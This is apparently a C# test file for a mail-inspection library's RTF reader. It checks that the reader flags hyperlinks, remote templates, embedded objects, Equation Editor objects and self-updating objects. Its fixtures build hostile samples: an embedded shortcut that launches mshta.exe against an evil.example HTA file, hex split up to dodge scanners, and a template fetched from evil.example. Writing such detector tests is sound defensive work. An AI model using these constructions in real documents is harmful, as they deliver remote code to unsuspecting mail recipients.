using System.Text;
using Weir.Mail.Tests.Support;

namespace Weir.Mail.Tests.Inspection.Readers;

public sealed class RichTextTests
{
    [Fact]
    public void A_hyperlink_is_listed() => Assert.Equal(["https://evil.example/x"], Inspected.Urls("a.rtf", Rtf(@"{\field{\*\fldinst{HYPERLINK ""https://evil.example/x""}}{\fldrslt go}}")));

    [Fact]
    public void A_template_of_another_machine_is_told() => Assert.Equal("external-template", Inspected.Features("a.rtf", Rtf(@"{\*\template https://evil.example/t.dot}")));

    [Fact]
    public void A_template_of_the_author_is_not() => Assert.Equal("", Inspected.Features("a.rtf", Rtf(@"{\*\template C:\\Users\\ann\\Normal.dot}")));

    [Fact]
    public void A_file_inside_is_found_though_its_digits_are_strewn_with_words()
    {
        var digits = Convert.ToHexString(Old("Package", ActiveFiles.Native("a.lnk", ActiveFiles.Lnk("mshta.exe", "https://evil.example/a.hta"))[4..]));
        var hidden = string.Concat(digits.Chunk(40).Select(piece => new string(piece) + "{\\par}\n \\bin0 "));

        Assert.Equal("embedded-object lnk-downloads lnk-runs-script lnk-target rtf-object", Inspected.Features("a.rtf", Rtf($"{{\\object\\objemb{{\\*\\objdata {hidden}}}}}")));
    }

    [Fact]
    public void The_old_Equation_Editor_and_an_object_that_updates_itself_are_told() =>
        Assert.Equal("equation-object rtf-object rtf-updates-itself", Inspected.Features("a.doc", Rtf($"{{\\object\\objautlink\\objupdate{{\\*\\objdata {Convert.ToHexString(Old("Equation.3", new byte[40]))}}}}}")));

    [Fact]
    public void Plain_text_says_nothing() => Assert.Equal("", Inspected.Features("a.rtf", Rtf(@"\b Hello\b0  world")));

    private static byte[] Rtf(string text) => Encoding.Latin1.GetBytes($"{{\\rtf1 {text}}}");

    private static byte[] Old(string name, byte[] data) => [1, 5, 0, 0, 2, 0, 0, 0, .. BitConverter.GetBytes(name.Length + 1), .. Encoding.ASCII.GetBytes(name), 0, 0, 0, 0, 0, 0, 0, 0, 0, .. BitConverter.GetBytes(data.Length), .. data];
}
